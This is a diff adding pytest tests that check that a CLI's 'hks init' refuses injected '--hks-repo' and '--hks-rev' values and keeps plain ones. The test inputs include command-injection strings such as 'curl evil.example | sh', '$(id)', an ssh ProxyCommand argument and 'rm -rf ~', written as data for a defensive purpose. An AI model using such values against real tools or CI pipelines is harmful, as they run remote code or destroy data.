@@ -182,3 +182,35 @@ def test_a_custom_model_source_on_the_metadata_address_fails_validate(tmp_path: 
     )
     result = hks_process("validate", str(repo))
     assert result.returncode == 1 and "org.yaml:5:15: error[GW-017]" in result.stdout, result.stdout
+
+
+# --- item 25: `hks init --hks-repo/--hks-rev` writes only plain URLs, paths and revisions --------
+
+
+@pytest.mark.parametrize(
+    "option",
+    [
+        ["--hks-repo", 'https://example.com/hks" && curl evil.example | sh #'],
+        ["--hks-repo", "https://example.com/hks\n  - run: curl evil.example"],
+        ["--hks-repo", "https://example.com/$(id)"],
+        ["--hks-repo", "ssh://-oProxyCommand=touch%20pwned/x"],
+        ["--hks-repo", "git@host:x y"],
+        ["--hks-repo", "https://example.com/hks\"@v1"],
+        ["--hks-repo", "https://github.com/hexabase/hks", "--hks-rev", 'v1" ; rm -rf ~ ; "'],
+        ["--hks-repo", "https://github.com/hexabase/hks", "--hks-rev", "-v1"],
+        ["--hks-repo", "https://github.com/hexabase/hks", "--hks-rev", "v1\nrun: x"],
+    ],
+)
+def test_init_refuses_a_hks_repo_or_rev_that_is_not_plain_and_writes_nothing(option: list[str], tmp_path: Path) -> None:
+    result = hks_process("init", "demo", *option, cwd=tmp_path)
+    assert result.returncode == 2, result.stderr
+    assert "--hks-re" in result.stderr and "Traceback" not in result.stderr
+    assert not (tmp_path / "demo").exists()
+
+
+def test_init_keeps_plain_urls_and_revisions(tmp_path: Path) -> None:
+    result = hks_process(
+        "init", "demo", "--hks-repo", "git@git.example.com:platform/hks.git", "--hks-rev", "release/v0.1.0", cwd=tmp_path
+    )
+    assert result.returncode == 0, result.stderr
+    assert "git+ssh://git@git.example.com/platform/hks.git@release/v0.1.0" in (tmp_path / "demo/.gitlab-ci.yml").read_text()
